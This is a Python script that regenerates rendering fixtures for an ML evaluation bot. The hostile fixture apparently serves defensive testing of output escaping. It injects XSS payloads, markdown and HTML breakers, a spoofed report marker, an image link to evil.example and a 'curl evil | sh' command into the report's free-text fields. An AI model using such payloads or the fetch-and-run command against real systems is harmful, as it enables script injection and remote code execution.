"""Regenerates the rendering fixtures: `.venv/bin/python -m tests.render.make_fixtures`.

Like `tests/fixtures/reports/make_reports.py`, the numbers come from the real engine on
deterministic synthetic data, so the goldens show what reviewers will really see:

- `multi.json`: a multiclass model on a small holdout (intervals too wide to decide, so
  the verdict is inconclusive) and a regression model (lower-is-better metrics) that
  improved; policy `mlgate-multi.yml`.
- `first_model.json`: the first candidate of a model that has no production baseline.
- `hostile.json`: the failing report with attacker-chosen strings in every free-text field.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from bot import report as report_io
from bot.config import Config, load_config
from bot.evaluation import compare_models

HERE = Path(__file__).parent
REPORTS = HERE.parent / "fixtures" / "reports"

HOSTILE = {
    "mention": "@acme/ml-reviewers",
    "script": "<script>alert(1)</script>",
    "pipe": "a|b\nc",
    "fence": "```",
    "link": "[x](javascript:alert(1))",
    "details": "</details>",
    "image": "![t](https://evil.example/t.png)",
    "img": "<img src=x onerror=alert(1)>",
    "marker": "<!-- mlgate:report -->",
    "issue": "fixes #1 and acme/other#2",
}


def _envelope(config: Config, models: list[dict[str, Any]], data: dict[str, Any] | None = None) -> dict[str, Any]:
    mc = config.models[0]
    return {
        "schema_version": 1,
        "mlgate_version": "0.1.0",
        "created_at": "2026-11-22T10:00:00Z",
        "run": {"repository": "acme/forecasts", "pr": 31, "head_sha": "9f" * 20, "base_sha": "3c" * 20,
                "base_rev": "3c" * 20, "workflow_run_id": 5150},
        "environment": {"code_sha": "9f" * 20, "python": "3.11.9", "platform": "Linux-6.8-x86_64",
                        "packages": {"mlgate": "0.1.0", "numpy": "2.3.0", "pandas": "2.3.1", "scikit-learn": "1.7.0"},
                        "seed": mc.seed, "resamples": mc.resamples, "confidence": mc.confidence,
                        "command": "mlgate evaluate --config .github/mlgate.yml --out mlgate-report.json"},
        "policy": config.to_policy(),
        "models": models,
        "data": data or {"schema_path": None, "checks": [], "drift": [], "changes": []},
    }


def _model(mc: Any, frame: pd.DataFrame, cand: np.ndarray, base: np.ndarray | None,
           classes: list[Any] | None = None, version: str = "12") -> dict[str, Any]:
    body = compare_models(frame, task=mc.task, label=mc.label, candidate=cand, baseline=base,
                          metrics=list(mc.metrics), segments=list(mc.segments), confidence=mc.confidence,
                          resamples=mc.resamples, seed=mc.seed, classes=classes).to_report()
    out: dict[str, Any] = {
        "name": mc.name, "task": mc.task, "label": mc.label,
        "candidate": {"uri": "runs:/5d41402abc4b/model", "version": None, "run_id": "5d41402abc4b"},
        "baseline": ({"uri": f"models:/{mc.name}@{mc.baseline}", "version": version, "alias": mc.baseline}
                     if base is not None else None),
        "holdout": {"path": mc.holdout, "rows": len(frame), "sha256": ("7e" * 32)},
        **body,
    }
    if classes is not None:
        out["classes"] = classes
    return out


def make_multi() -> dict[str, Any]:
    config = load_config(HERE / "mlgate-multi.yml")
    mc_cls, mc_reg = config.models
    rng = np.random.default_rng(7)

    n = 900
    classes = ["basic", "pro", "enterprise"]
    country = rng.choice(["DE", "FR", "US", "JP"], n, p=[0.3, 0.2, 0.35, 0.15])
    seats = rng.integers(1, 400, n)
    y = rng.choice(3, n, p=[0.5, 0.35, 0.15])
    logits_b = rng.normal(0, 1.0, (n, 3))
    logits_b[np.arange(n), y] += 1.3
    logits_c = logits_b + rng.normal(0, 0.3, (n, 3))
    logits_c[np.arange(n), y] += 0.05
    def soft(z: np.ndarray) -> np.ndarray:
        e = np.exp(z - z.max(axis=1, keepdims=True))
        return e / e.sum(axis=1, keepdims=True)
    frame = pd.DataFrame({"country": country, "seats": seats, "plan": np.array(classes)[y]})
    cls_model = _model(mc_cls, frame, soft(logits_c), soft(logits_b), classes=classes, version="4")

    n = 6000
    region = rng.choice(["EU", "NA", "APAC"], n, p=[0.4, 0.4, 0.2])
    channel = rng.choice(["web", "sales", "partner", None], n, p=[0.5, 0.3, 0.15, 0.05])
    truth = rng.gamma(2.0, 150.0, n)
    base = truth + rng.normal(0, 60, n)
    cand = truth + rng.normal(0, 52, n)
    rframe = pd.DataFrame({"region": region, "channel": channel, "ltv": truth})
    reg_model = _model(mc_reg, rframe, cand, base, version="27")
    reg_model["holdout"]["sha256"] = "41" * 32

    data = {
        "schema_path": "data/schema.yml",
        "checks": [
            {"file": "data/accounts.parquet", "column": "seats", "check": "in_range(1, 10000)", "passed": True, "failures": 0, "examples": []},
            {"file": "data/accounts.parquet", "column": "country", "check": "str_matches('^[A-Z]{2}$')", "passed": True, "failures": 0, "examples": []},
            {"file": "data/accounts.parquet", "column": "account_id", "check": "unique", "passed": True, "failures": 0, "examples": []},
            {"file": "data/ltv.parquet", "column": "channel", "check": "missing_rate <= 0.08", "passed": True, "failures": 0, "examples": []},
        ],
        "drift": [
            {"file": "data/ltv.parquet", "column": "ltv", "kind": "numeric", "psi": 0.031, "ks_statistic": 0.041, "ks_p_value": 0.0009, "chi2_statistic": None, "chi2_p_value": None, "drifted": False},
            {"file": "data/ltv.parquet", "column": "channel", "kind": "categorical", "psi": 0.27, "ks_statistic": None, "ks_p_value": None, "chi2_statistic": 412.5, "chi2_p_value": 1.2e-88, "drifted": True},
            {"file": "data/accounts.parquet", "column": "seats", "kind": "numeric", "psi": 0.008, "ks_statistic": 0.019, "ks_p_value": 0.62, "chi2_statistic": None, "chi2_p_value": None, "drifted": False},
        ],
        "changes": [
            {"path": "data/ltv.parquet", "status": "modified", "rows_before": 5400, "rows_after": 6000,
             "sha256_before": "0a" * 32, "sha256_after": "41" * 32},
            {"path": "data/accounts_2026q3.parquet", "status": "added", "rows_before": None, "rows_after": 900,
             "sha256_before": None, "sha256_after": "7e" * 32},
            {"path": "data/legacy_accounts.csv", "status": "deleted", "rows_before": 12000, "rows_after": None,
             "sha256_before": "b2" * 32, "sha256_after": None},
        ],
    }
    return _envelope(config, [cls_model, reg_model], data)


def make_first_model() -> dict[str, Any]:
    """The churn model's very first candidate: nothing in the registry to compare with."""
    report = json.loads((REPORTS / "passing.json").read_text())
    config = Config.model_validate(report["policy"])
    mc = config.models[0]
    rng = np.random.default_rng(11)
    n = 8000
    region = rng.choice(["EU", "NA", "APAC", "LATAM"], n, p=[0.35, 0.35, 0.2, 0.1])
    plan = rng.choice(["basic", "pro", "enterprise"], n, p=[0.5, 0.35, 0.15])
    tenure = rng.integers(0, 72, n)
    y = rng.integers(0, 2, n)
    cand = 1 / (1 + np.exp(-2.0 * (y * 1.1 + rng.normal(0, 0.9, n) - 0.55)))
    frame = pd.DataFrame({"region": region, "plan": plan, "tenure_months": tenure, "churned": y})
    report["models"] = [_model(mc, frame, cand, None)]
    report["models"][0]["holdout"]["sha256"] = "c" * 64
    report["data"]["changes"] = [{"path": "data/holdout.parquet", "status": "added", "rows_before": None,
                                  "rows_after": n, "sha256_before": None, "sha256_after": "c" * 64}]
    return report


def make_hostile() -> dict[str, Any]:
    """Every free-text field an attacker controls, filled with something nasty."""
    report = json.loads((REPORTS / "failing.json").read_text())
    h = HOSTILE
    m = report["models"][0]
    apac = next(s for s in m["segments"] if s["value"] == "APAC")
    apac["value"] = f"APAC {h['mention']} {h['script']} {h['pipe']} {h['fence']} {h['link']} {h['details']}"
    m["segments"][0]["column"] = f"{h['img']}|{h['marker']}"
    m["segments"][1]["value"] = "x" * 900 + h["script"]
    m["candidate"]["uri"] = f"runs:/{h['image']}/model {h['mention']}"
    m["candidate"]["version"] = h["details"]
    m["baseline"]["alias"] = f"prod{h['fence']}"
    m["holdout"]["path"] = f"data/{h['img']}{h['issue']}.parquet"
    report["data"]["checks"].append({"file": "data/@octocat.csv", "column": h["pipe"], "check": f"isin(['{h['script']}'])",
                                     "passed": False, "failures": 3, "examples": ["@everyone", "</td>", h["fence"], h["link"], 7]})
    report["data"]["drift"][0]["column"] = h["details"] + h["mention"]
    report["data"]["changes"].append({"path": f"data/{h['link']}{h['marker']}.csv", "status": "added", "rows_before": None,
                                      "rows_after": 10, "sha256_before": None, "sha256_after": "f" * 64})
    report["environment"]["command"] = f"mlgate evaluate {h['fence']} {h['marker']} {h['script']} && curl evil | sh"
    report["environment"]["packages"]["<b>bold</b>"] = h["mention"]
    report["environment"]["python"] = h["details"] + "3.11"
    # a second model the base branch's policy does not know: its name reaches the reasons
    stranger = copy.deepcopy(m)
    stranger["name"] = f"{h['mention']} {h['script']} {h['link']}"
    stranger["segments"] = stranger["segments"][:3]
    report["models"].append(stranger)
    return report


def main() -> None:
    for name, build in (("multi", make_multi), ("first_model", make_first_model), ("hostile", make_hostile)):
        report = report_io.validate(build())
        (HERE / f"{name}.json").write_text(json.dumps(report, indent=2, ensure_ascii=False) + "\n")
        print(f"wrote {HERE / name}.json")


if __name__ == "__main__":
    main()
